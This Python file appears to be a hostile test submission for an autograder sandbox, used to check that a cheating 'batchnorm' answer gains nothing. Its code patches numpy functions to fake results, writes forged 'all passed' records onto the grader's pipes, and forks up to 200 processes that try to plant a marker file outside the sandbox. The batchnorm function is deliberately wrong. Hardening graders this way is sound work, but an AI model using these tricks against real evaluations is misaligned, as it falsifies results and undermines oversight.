"""Attack: impersonate the grading worker: write forged 'all passed' records on every descriptor,
monkeypatch numpy (save/load/isfinite) inside the sandbox, and fork helpers that try to escape.
Its junk on the worker's pipes can only sabotage its own grading: it must gain nothing.

assignment: batchnorm
loses: all
"""
import json
import os
import time
import numpy as np

np.isfinite = lambda a: np.ones(np.shape(a), dtype=bool)
np.save = lambda *a, **k: None
np.load = lambda *a, **k: np.zeros(3)
for fd in range(0, 40):
    for cell in range(40):
        for k in range(12):
            rec = {"t": "case", "cell": cell, "k": k, "status": "ok",
                   "outputs": {"out": {"npy": "AAAA"}}}
            try:
                os.write(fd, (json.dumps(rec) + "\n").encode())
            except OSError:
                break
    try:
        os.write(fd, b'{"t": "done"}\n')
    except OSError:
        pass
kids = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            open("__COURSE__/PWNED_FORK___TOKEN__", "w").write("x")
        except Exception:
            pass
        time.sleep(0.5)
        os._exit(0)
    kids += 1
print("forked", kids)


def batchnorm_forward(x, gamma, beta, bn_param):
    mode = bn_param["mode"]
    eps, momentum = bn_param.get("eps", 1e-5), bn_param.get("momentum", 0.9)
    D = x.shape[1]
    rm = bn_param.get("running_mean", np.zeros(D, dtype=x.dtype))
    rv = bn_param.get("running_var", np.zeros(D, dtype=x.dtype))
    mu, var = x.mean(axis=0), x.var(axis=0)
    if mode == "train":
        bn_param["running_mean"] = momentum * rm + (1 - momentum) * mu
        bn_param["running_var"] = momentum * rv + (1 - momentum) * var
    out = x * 0.5  # wrong on purpose: only the running averages are right
    return out, (x, gamma, beta, mu, var, eps)
